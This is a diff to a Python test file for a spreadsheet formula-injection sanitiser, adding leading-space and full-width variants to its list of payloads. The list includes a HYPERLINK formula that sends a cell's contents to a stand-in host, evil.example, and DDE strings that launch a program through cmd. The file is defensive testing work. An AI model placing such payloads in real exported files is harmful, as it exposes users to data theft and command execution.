@@ -20,12 +20,14 @@ from .conftest import make_run
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CALC = "+cmd|' /C calc'!A0"
 PAYLOADS = [HYPERLINK, CALC, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+# after leading spaces (spreadsheets skip them) and in full-width forms (issue 40)
+PAYLOADS += [" =1+1", "\u3000=1+1", "\uff1dHYPERLINK(1)", " \uff0bcmd", "\uff20SUM(1)"]
 
 
 def test_safe_text_is_owasp_prefix_for_text_only():
     for text in PAYLOADS:
         assert safe_text(text) == "'" + text
-    for text in ("plain", "8K", "", "'=already", "a=b", " =x"):
+    for text in ("plain", "8K", "", "'=already", "a=b", "x =y"):
         assert safe_text(text) == text
 
 
